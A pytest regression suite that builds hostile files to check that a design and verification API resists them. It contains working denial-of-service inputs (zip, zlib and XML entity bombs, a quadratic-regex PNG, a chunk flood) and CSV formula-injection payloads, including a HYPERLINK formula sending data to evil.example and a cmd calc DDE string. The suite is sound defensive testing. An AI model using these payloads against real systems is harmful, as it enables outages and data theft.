"""Red-team findings of issue 13 about hostile files, each replayed with the hostile input itself (built here):

- POST /api/v1/verify: a PNG whose XMP repeats an opening tag (a quadratic regex stalled the server), a PNG whose
  XMP iTXt chunk inflates to 1 GB, a chunk flood; /health stays quick while they run.
- POST /api/v1/templates/data: an XLSX declaring 16,384 x 1,048,576 cells, one whose shared string inflates to
  600 MB, a row of two million empty cells, an XML entity bomb, JSON nested 100,000 deep.
- manifest.csv of batch archives: cells starting with = + - @ (formula injection in Excel).
- POST /api/v1/templates/preview: a 4096 x 4096 template renders at the preview size; a user's previews are capped.
"""

from __future__ import annotations

import csv
import io
import struct
import threading
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from fastapi.testclient import TestClient
from PIL import Image

from tests.conftest import make_settings
from zhike.api.app import create_app
from zhike.core import png
from zhike.core.errors import InvalidInput, TooLarge
from zhike.design import data as batch_data
from zhike.provenance import xmp

# -- building hostile files -------------------------------------------------------------------------------------------


def tiny_png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buf, "PNG")
    return buf.getvalue()


def png_with_xmp_chunk(itxt_body: bytes) -> bytes:
    """`tiny_png` with one more iTXt chunk (keyword XML:com.adobe.xmp) before its image data."""
    data = tiny_png()
    at = data.index(b"IDAT") - 4
    return data[:at] + png.chunk(b"iTXt", b"XML:com.adobe.xmp\x00" + itxt_body) + data[at:]


def quadratic_png(repeats: int = 20_000) -> bytes:
    """The XMP repeats `<TC260:AIGC>` with no closing tag, zlib-compressed: 674 bytes for 20,000 repeats. The old
    regex `<TC260:AIGC>(.*?)</TC260:AIGC>` scanned to the end from every one of them: 52 s."""
    text = f'<x:xmpmeta xmlns:TC260="{xmp.TC260_NS}">'.encode() + b"<TC260:AIGC>" * repeats
    return png_with_xmp_chunk(b"\x01\x00\x00\x00" + zlib.compress(text, 9))


class Deflated(NamedTuple):
    """A raw deflate stream with the CRC and size of what it inflates to (a ZIP member's data)."""

    data: bytes
    crc: int
    size: int


def _raw(data: bytes, *, final: bool) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def deflated(data: bytes) -> Deflated:
    return Deflated(_raw(data, final=True), zlib.crc32(data), len(data))


def deflated_repeat(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> Deflated:
    """prefix + unit * count + suffix, deflated without compressing the repeats one by one: `unit` is compressed
    once, flushed to a byte boundary with no reference outside it, and its bytes repeated (a valid stream)."""
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    body = _raw(prefix, final=False) + _raw(unit, final=False) * count + _raw(suffix, final=True)
    return Deflated(body, crc, len(prefix) + len(unit) * count + len(suffix))


def zip_of(members: dict[str, Deflated]) -> bytes:
    """A ZIP of deflated members, written by hand (zipfile cannot take data deflated already)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, m in members.items():
        offset, raw_name = out.tell(), name.encode()
        fields = (20, 0, 8, 0, 0x21, m.crc, len(m.data), m.size, len(raw_name), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + raw_name + m.data)
        central.write(struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIIIHH", *fields))
        central.write(struct.pack("<HHHII", 0, 0, 0, 0, offset) + raw_name)
    cd_offset, cd = out.tell(), central.getvalue()
    out.write(cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), cd_offset, 0))
    return out.getvalue()


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook_parts(sheet_xml: str, *, shared: Deflated | None = None) -> dict[str, Deflated]:
    """The parts of a minimal .xlsx (what Excel needs to open it) around a hand-written sheet."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    package_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship Id="rId1" '
        f'Type="{DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    book = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{DOC}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    book_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rId1" Type="{DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{DOC}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    empty_strings = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="0" uniqueCount="0"/>'
    return {
        "[Content_Types].xml": deflated(content_types.encode()),
        "_rels/.rels": deflated(package_rels.encode()),
        "xl/workbook.xml": deflated(book.encode()),
        "xl/_rels/workbook.xml.rels": deflated(book_rels.encode()),
        "xl/worksheets/sheet1.xml": deflated(sheet_xml.encode()),
        "xl/sharedStrings.xml": shared or deflated(empty_strings.encode()),
    }


def sheet(rows: str, dimension: str = "A1:B2") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def dimension_bomb(value_in_last_column: bool = False) -> bytes:
    """1.6 KB: a declared dimension of 16,384 columns x 1,048,576 rows, a header row and a row at the very bottom.
    openpyxl padded every row (and the million rows between) to the declared width: over a minute of CPU."""
    last = inline("XFD1048576", "x") if value_in_last_column else ""
    rows = f'<row r="1">{inline("A1", "name")}</row><row r="1048576">{inline("A1048576", "杯")}{last}</row>'
    return zip_of(workbook_parts(sheet(rows, "A1:XFD1048576")))


def shared_string_bomb(megabytes: int = 600) -> bytes:
    """~600 KB: sharedStrings.xml holds one string of 600 million 'A's (openpyxl kept it all: +1.2 GB)."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
    shared = deflated_repeat(head, b"A" * (1 << 20), megabytes, b"</t></si></sst>")
    return zip_of(workbook_parts(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=shared))


def wide_row(cells: int = 2_000_000) -> bytes:
    """9 KB: one row of two million empty cells (openpyxl built the row whole: 15 s, +630 MB)."""
    return zip_of(workbook_parts(sheet("<row>" + "<c/>" * cells + "</row>")))


def entity_bomb() -> bytes:
    """Billion laughs in sharedStrings.xml: nine levels of entities, each ten of the one before."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    shared = f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN}"><si><t>&i;</t></si></sst>'
    return zip_of(
        workbook_parts(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=deflated(shared.encode()))
    )


def zlib_repeat(unit: bytes, count: int) -> bytes:
    """A zlib stream of unit * count (header, deflate, Adler-32), without compressing the repeats one by one."""
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(unit, adler)
    return b"\x78\xda" + deflated_repeat(b"", unit, count, b"").data + struct.pack(">I", adler)


def inflation_bomb(method: int) -> bytes:
    """~1 MB PNG whose XMP iTXt chunk inflates to 1 GB of spaces. Method 1 is not zlib: Pillow skips the chunk, the
    old label reader inflated it anyway (13 s, +2 GB)."""
    return png_with_xmp_chunk(bytes([1, method]) + b"\x00\x00" + zlib_repeat(b" " * (1 << 20), 1024))


def chunk_flood(chunks: int | None = None) -> bytes:
    """Empty ancillary chunks before the image data, by default one more than the reader walks (30 MB of them made
    the old reader list 2.5 million chunks: 8 s, +500 MB; and Pillow walked them for 25 s)."""
    chunks = xmp.MAX_PARTS + 1 if chunks is None else chunks
    data = tiny_png()
    at = data.index(b"IDAT") - 4
    return data[:at] + png.chunk(b"zzZz", b"") * chunks + data[at:]


def peak_mb(fn: Any) -> tuple[Any, float, float]:
    """fn()'s result (or the exception it raised), the Python memory it peaked at (MB) and its wall time."""
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        result = fn()
    except Exception as e:  # noqa: BLE001 - the caller asserts on it
        result = e
    seconds = time.perf_counter() - t0
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return result, peak, seconds


# -- the app ----------------------------------------------------------------------------------------------------------


class Api(NamedTuple):
    client: TestClient
    app: Any
    a: dict[str, str]  # headers of owner a's key
    b: dict[str, str]


@pytest.fixture
def api(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Api]:
    overrides = getattr(request, "param", {})
    app = create_app(make_settings(tmp_path / "home", **overrides), start_worker=False)
    z = app.state.zhike
    keys = [z.keys.create(name, owner_id=f"owner-{name}")[1] for name in ("a", "b")]
    with TestClient(app) as client:
        yield Api(client, app, *({"Authorization": f"Bearer {k}"} for k in keys))
    z.engine.dispose()


def error_of(r: Any, status: int) -> dict[str, Any]:
    assert r.status_code == status, r.text
    return r.json()["error"]


def verify(api: Api, data: bytes, headers: dict[str, str] | None = None) -> Any:
    return api.client.post("/api/v1/verify", files={"file": ("x.png", data, "image/png")}, headers=headers or api.a)


# -- POST /api/v1/verify ----------------------------------------------------------------------------------------------


def test_the_quadratic_xmp_png_verifies_at_once(api: Api) -> None:
    hostile = quadratic_png()
    assert len(hostile) < 1000
    t0 = time.perf_counter()
    found = xmp.read_label(hostile)
    assert time.perf_counter() - t0 < 0.2  # the old regex: 52 s
    assert found == {"raw": "", "fields": None, "error": "TC260 namespace present but no AIGC property"}
    t0 = time.perf_counter()
    r = verify(api, hostile)
    assert time.perf_counter() - t0 < 1.0 and r.status_code == 200, r.text
    assert r.json()["implicit"]["status"] == "invalid"


def label_png(xml: str, *, compressed: bool = False) -> bytes:
    body = zlib.compress(xml.encode()) if compressed else xml.encode()
    return png_with_xmp_chunk(bytes([int(compressed), 0]) + b"\x00\x00" + body)


@pytest.mark.parametrize(
    "prop",
    [
        'TC260:AIGC="{quoted}"',
        "TC260:AIGC = '{json}'",
        'TC260:AIGC=\'unclosed TC260:AIGC="{quoted}"',  # a quote left open: the next attribute is still found
        "><TC260:AIGC>{json}</TC260:AIGC><x",  # the element form (other tools write it)
    ],
)
def test_the_linear_reader_still_reads_every_form(prop: str) -> None:
    payload = '{"Label":"1","ContentProducer":"x","ProduceID":"id1"}'
    value = prop.format(json=payload, quoted=payload.replace('"', "&quot;"))
    xml = f'<x:xmpmeta><rdf:Description xmlns:TC260="{xmp.TC260_NS}" {value}/></x:xmpmeta>'
    for compressed in (False, True):
        found = xmp.read_label(label_png(xml, compressed=compressed))
        assert found is not None and found["fields"] == {"Label": "1", "ContentProducer": "x", "ProduceID": "id1"}


def test_a_label_nested_deep_is_invalid_not_a_crash(api: Api) -> None:
    deep = "[" * 100_000
    found = xmp.read_label(label_png(f'<x xmlns:TC260="{xmp.TC260_NS}" TC260:AIGC="{deep}"/>'))
    assert found is not None and found["error"].startswith("AIGC is not JSON")
    r = verify(api, label_png(f'<x xmlns:TC260="{xmp.TC260_NS}" TC260:AIGC="{deep}"/>'))
    assert r.status_code == 200 and r.json()["implicit"]["status"] == "invalid"


def test_the_inflation_bomb_is_refused_with_bounded_memory(api: Api) -> None:
    """zlib (method 0): refused after 1 MB of inflating. Method 1 (what reached the old reader, Pillow skips it):
    no known compression, so no packet: the report says "absent". Neither inflates more than 1 MB."""
    from zhike.services.verify import DbLookup, verify_file

    z = api.app.state.zhike

    def check(data: bytes) -> Any:
        max_bytes = z.assets.max_upload_bytes
        return verify_file(data, z.labels, DbLookup(z.engine), field="file", max_bytes=max_bytes, max_pixels=10**8)

    for method in (0, 1):
        bomb = inflation_bomb(method)
        assert len(bomb) < 1_200_000
        result, peak, seconds = peak_mb(lambda: check(bomb))  # noqa: B023 - called at once
        assert peak < 50 and seconds < 1.0, (method, peak, seconds)  # the old reader: +2 GB, 13 s
        if method == 0:
            assert isinstance(result, TooLarge) and result.code == "metadata_too_large", result
            err = error_of(verify(api, bomb), 413)
            assert (err["code"], err["field"], err["limit"]) == ("metadata_too_large", "file", xmp.MAX_XMP_BYTES)
        else:
            assert isinstance(result, dict) and result["implicit"] == {"status": "absent"}, result
            assert verify(api, bomb).json()["implicit"] == {"status": "absent"}


def test_a_chunk_flood_is_refused_before_any_decoder(api: Api) -> None:
    flood = chunk_flood()
    t0 = time.perf_counter()
    err = error_of(verify(api, flood), 413)
    assert time.perf_counter() - t0 < 1.0
    assert (err["code"], err["limit"]) == ("metadata_too_large", xmp.MAX_PARTS)
    assert verify(api, chunk_flood(100)).status_code == 200  # a few unknown chunks are nothing unusual


def test_health_stays_quick_while_hostile_verifies_run(api: Api) -> None:
    hostile = [quadratic_png(), inflation_bomb(1), chunk_flood(), quadratic_png(40_000)] * 2
    statuses: list[int] = []
    took: list[float] = []

    def attack(data: bytes, headers: dict[str, str]) -> None:
        t0 = time.perf_counter()
        statuses.append(verify(api, data, headers).status_code)
        took.append(time.perf_counter() - t0)

    threads = [
        threading.Thread(target=attack, args=(data, api.a if i % 2 else api.b)) for i, data in enumerate(hostile)
    ]
    for t in threads:
        t.start()
    health = []
    while any(t.is_alive() for t in threads) or len(health) < 5:
        t0 = time.perf_counter()
        assert api.client.get("/api/v1/health").status_code == 200
        health.append(time.perf_counter() - t0)
        time.sleep(0.02)
    for t in threads:
        t.join()
    assert max(health) < 1.0, health
    assert set(statuses) <= {200, 413, 429, 503} and len(statuses) == len(hostile), statuses
    assert max(took) < 5.0, took  # the quadratic files alone took 52 s and 210 s each, holding the GIL


# -- POST /api/v1/templates/data --------------------------------------------------------------------------------------


def post_data(api: Api, raw: bytes, name: str) -> Any:
    return api.client.post(
        "/api/v1/templates/data", files={"file": (name, raw, "application/octet-stream")}, headers=api.a
    )


def test_a_declared_dimension_of_16384_columns_costs_nothing(api: Api) -> None:
    t0 = time.perf_counter()
    r = post_data(api, dimension_bomb(), "d.xlsx")
    assert time.perf_counter() - t0 < 1.0  # openpyxl padded to the dimension: over a minute
    assert r.status_code == 200, r.text
    assert (r.json()["columns"], r.json()["rows"]) == (["name"], [{"name": "杯"}])
    err = error_of(post_data(api, dimension_bomb(value_in_last_column=True), "d.xlsx"), 413)
    assert (err["code"], err["field"], err["ctx"], err["limit"]) == (
        "data_too_large",
        "file",
        {"what": "columns"},
        batch_data.MAX_COLUMNS,
    )
    assert "XFD1048576" in err["message"]


def test_a_600_mb_shared_string_is_refused_with_bounded_memory(api: Api) -> None:
    bomb = shared_string_bomb()
    assert len(bomb) < 700_000
    refused, peak, seconds = peak_mb(lambda: batch_data.parse_data(bomb, "s.xlsx"))
    assert isinstance(refused, TooLarge) and refused.ctx == {"what": "zip_ratio"}, refused
    assert peak < 50 and seconds < 1.0, (peak, seconds)  # openpyxl: 11 s, +1.2 GB
    err = error_of(post_data(api, bomb, "s.xlsx"), 413)
    assert (err["code"], err["field"], err["ctx"]) == ("data_too_large", "file", {"what": "zip_ratio"})


def test_sizes_are_checked_before_inflating(monkeypatch: pytest.MonkeyPatch) -> None:
    """A long shared string that compresses ordinarily: refused by the part's declared size, or, under it, kept to
    the cell limit while read (never whole in memory)."""
    from zhike.design import xlsx

    text = "".join(f"{i:x}" for i in range(400_000))  # ~2 MB of hex digits: inflates ~2 times, not a bomb
    head = f'<sst xmlns="{MAIN}"><si><t>'
    shared = deflated((head + text + "</t></si></sst>").encode())
    rows = f'<row r="1">{inline("A1", "name")}</row><row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    raw = zip_of(workbook_parts(sheet(rows), shared=shared))
    monkeypatch.setattr(xlsx, "MAX_PART_BYTES", 1_000_000)
    with pytest.raises(TooLarge) as e:
        batch_data.parse_data(raw, "s.xlsx")
    assert e.value.ctx == {"what": "part_bytes"} and "xl/sharedStrings.xml" in e.value.message
    monkeypatch.undo()
    with pytest.raises(TooLarge) as e:
        batch_data.parse_data(raw, "s.xlsx")
    assert e.value.ctx == {"what": "cell_chars"} and "row 1" in e.value.message  # 2001 characters kept, not 1.9 M


def test_a_row_of_two_million_cells_is_refused(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    from zhike.design import xlsx

    t0 = time.perf_counter()
    err = error_of(post_data(api, wide_row(), "w.xlsx"), 413)
    assert time.perf_counter() - t0 < 1.0 and err["ctx"] == {"what": "zip_ratio"}  # 1000:1: refused unread
    # Cells that compress like real ones still stop at MAX_CELLS, while streaming (never a whole row in memory).
    monkeypatch.setattr(xlsx, "MAX_CELLS", 5000)
    cells = "".join(f'<c r="A{i}" s="{i % 7}"/>' for i in range(1, 5002))
    with pytest.raises(TooLarge) as e:
        batch_data.parse_data(zip_of(workbook_parts(sheet(f"<row>{cells}</row>"))), "w.xlsx")
    assert e.value.ctx == {"what": "cells"}


def test_a_zip_of_60000_members_is_refused_unread() -> None:
    """5 MB of empty members: zipfile alone spends 3.7 s and 30 MB listing them."""
    empty = deflated(b"")
    raw = zip_of(workbook_parts(sheet("")) | {f"x/{i}": empty for i in range(60_000)})
    refused, peak, seconds = peak_mb(lambda: batch_data.parse_data(raw, "m.xlsx"))
    assert isinstance(refused, TooLarge) and refused.ctx == {"what": "zip_members"}, refused
    assert peak < 5 and seconds < 0.5, (peak, seconds)


def test_hostile_csv_lines_are_quick() -> None:
    """Quotes that never close (csv.Sniffer's regexes are quadratic on them: its sample is 4 KB), a line of 9
    million commas (the csv module made a list of 9 million cells: +200 MB)."""
    for raw in (b',"' * 4_900_000, b"name" + b"," * 9_000_000 + b"\n\xe6\x9d\xaf\n"):
        refused, peak, seconds = peak_mb(lambda: batch_data.parse_data(raw, "c.csv"))  # noqa: B023 - called at once
        assert isinstance(refused, TooLarge) and refused.ctx == {"what": "cells"}, refused
        assert peak < 50 and seconds < 1.0, (peak, seconds)
    # trailing empty columns (what Excel writes for formatted cells) are dropped, not refused
    assert batch_data.parse_data(b"name" + b"," * 5000 + b"\n\xe6\x9d\xaf\n", "c.csv").rows == [{"name": "杯"}]


def test_an_xml_entity_bomb_is_refused(api: Api) -> None:
    err = error_of(post_data(api, entity_bomb(), "e.xlsx"), 422)
    assert (err["code"], err["field"]) == ("unsafe_xml", "file") and "DTD" in err["message"]


def test_json_nested_100000_deep_is_a_clear_413(api: Api) -> None:
    err = error_of(post_data(api, b"[" * 100_000 + b"]" * 100_000, "deep.json"), 413)
    assert (err["code"], err["ctx"], err["limit"]) == ("data_too_large", {"what": "json_depth"}, 3)
    err = error_of(post_data(api, b'[{"a": [[1]]}]', "d.json"), 422)  # less deep: the usual message
    assert "must be text or a number" in err["message"]


def test_one_long_text_repeated_in_every_cell_is_bounded() -> None:
    """Shared strings let a 2000-character text fill 5000 x 100 cells from a few KB: 1 G characters. Capped."""
    from openpyxl.utils import get_column_letter

    cols = [get_column_letter(i) for i in range(1, batch_data.MAX_COLUMNS + 1)]
    header = "".join(inline(f"{c}1", f"h{c}") for c in cols)
    row = "".join(f'<c r="{c}{{n}}" t="s"><v>0</v></c>' for c in cols)
    rows = "".join(f'<row r="{n}">{row.format(n=n)}</row>' for n in range(2, 120))
    shared = deflated(f'<sst xmlns="{MAIN}"><si><t>{"长" * batch_data.MAX_CELL}</t></si></sst>'.encode())
    raw = zip_of(workbook_parts(sheet(f'<row r="1">{header}</row>{rows}'), shared=shared))
    with pytest.raises(TooLarge) as e:
        batch_data.parse_data(raw, "r.xlsx")
    assert e.value.ctx == {"what": "table_chars"}


def test_a_damaged_workbook_is_a_clear_422() -> None:
    parts = workbook_parts(sheet('<row r="1"><c r="A1"><v>1</v></c></row>'))
    bad_crc = parts["xl/worksheets/sheet1.xml"]._replace(crc=1)
    for raw in (zip_of(parts | {"xl/worksheets/sheet1.xml": bad_crc}), zip_of(workbook_parts(sheet("<row>")))):
        with pytest.raises(InvalidInput) as e:
            batch_data.parse_data(raw, "bad.xlsx")
        assert "not a readable .xlsx" in e.value.message


# -- manifest.csv -----------------------------------------------------------------------------------------------------


def test_manifest_cells_never_run_as_formulas(tmp_path: Path) -> None:
    from tests.test_batch_job import CARD
    from zhike.services.container import Zhike
    from zhike.services.jobs.worker import Worker
    from zhike.services.templates import csv_text, write_archive

    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    rows = [
        {"name": hyperlink, "price": "19.9", "备注": "+1+cmd|' /C calc'!A0"},
        {"name": "@SUM(1,2)", "price": "-5", "备注": "-2+3"},
    ]
    z = Zhike(make_settings(tmp_path / "home"))
    try:
        job, _ = z.submit("batch_design", {"template_json": CARD, "rows": rows, "sizes": ["template"]}, "u1")
        assert Worker(z).run_one(job.id)
        buf = io.BytesIO()
        write_archive(z.jobs.get(job.id), z.assets, z.exports, buf)
    finally:
        z.engine.dispose()
    import zipfile

    text = zipfile.ZipFile(buf).read("manifest.csv").decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(text)))
    assert [line["status"] for line in lines] == ["ok", "ok"]
    assert [line["name"] for line in lines] == ["'" + hyperlink, "'@SUM(1,2)"]
    assert [line["备注"] for line in lines] == ["'+1+cmd|' /C calc'!A0", "'-2+3"]
    assert [line["price"] for line in lines] == ["19.9", "-5"]  # numbers stay numbers
    # nothing in the file starts a cell with a formula character
    for line in csv.reader(io.StringIO(text)):
        assert not [c for c in line if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-5")]
    # (job rows are stripped when submitted; a data column's name or a value that keeps a tab or CR is escaped too)
    assert [csv_text(v) for v in ("\tx", "\r=1", "+86 138", "-0.5", ".5", "a=b", 7)] == [
        "'\tx",
        "'\r=1",
        "'+86 138",
        "-0.5",
        ".5",
        "a=b",
        7,
    ]


# -- POST /api/v1/templates/preview -----------------------------------------------------------------------------------


def big_template(side: int = 4096, layers: int = 4) -> dict[str, Any]:
    """A 4096 x 4096 design with layers that cost per pixel: gradients, strokes, blurred text shadows."""
    out: list[dict[str, Any]] = []
    for i in range(layers):
        box = [0, 0, side, side]
        if i % 2:
            fill = {"type": "linear", "colors": ["#ff000080", "#0000ff80"], "angle": i * 7}
            out.append({"type": "shape", "shape": "ellipse", "box": box, "fill": fill, "stroke": {"width": 64}})
        else:
            shadow = {"dx": 20, "dy": 20, "blur": 100, "color": "#00000080"}
            out.append({"type": "text", "text": "大字{{name}}", "box": box, "font_size": 1000, "shadow": shadow})
    background = {"type": "linear", "colors": ["#ffffff", "#000000"], "angle": 45}
    name = {"zh": "大", "en": "big"}
    return {"id": "big", "name": name, "width": side, "height": side, "background": background, "layers": out}


def preview(api: Api, template_json: dict[str, Any], headers: dict[str, str] | None = None) -> Any:
    body = {"template_json": template_json, "row": {"name": "杯"}}
    return api.client.post("/api/v1/templates/preview", json=body, headers=headers or api.a)


def test_a_4096_template_previews_at_the_preview_size(api: Api) -> None:
    from zhike.services.templates import PREVIEW_MAX_SIDE

    cpu = time.process_time()
    r = preview(api, big_template())
    cpu = time.process_time() - cpu
    assert r.status_code == 200, r.text
    assert Image.open(io.BytesIO(r.content)).size == (PREVIEW_MAX_SIDE, PREVIEW_MAX_SIDE)
    assert r.headers["X-Design-Size"] == "4096x4096"
    assert cpu < 4.0, cpu  # at 4096 x 4096 these layers take ~8 s of CPU
    wide = preview(api, big_template() | {"width": 4096, "height": 1024, "layers": []})
    assert Image.open(io.BytesIO(wide.content)).size == (PREVIEW_MAX_SIDE, 270)  # the shape kept


@pytest.mark.parametrize("api", [{"heavy_threads": 1, "heavy_per_user": 1, "heavy_wait_seconds": 0.3}], indirect=True)
def test_previews_are_limited_per_user_then_per_server(api: Api) -> None:
    small = big_template(64, layers=1)
    assert preview(api, small).status_code == 200
    heavy = api.app.state.heavy_work
    release = threading.Event()

    async def hold() -> None:  # owner a's preview still rendering
        async with heavy.slot("owner-a"):
            await heavy.run(release.wait, 10)

    held = api.client.portal.start_task_soon(hold)
    try:
        deadline = time.monotonic() + 5
        while heavy.held("owner-a") < 1 and time.monotonic() < deadline:
            time.sleep(0.01)
        err = error_of(preview(api, small), 429)
        assert (err["code"], err["field"], err["limit"]) == ("heavy_busy", "template", 1)
        # Owner b is not refused for a's previews, but the only thread is a's: b waits 0.3 s, then 503.
        r = preview(api, small, api.b)
        assert error_of(r, 503)["code"] == "server_busy" and int(r.headers["Retry-After"]) >= 1
    finally:
        release.set()
        held.result(timeout=10)
    assert preview(api, small).status_code == 200 and preview(api, small, api.b).status_code == 200
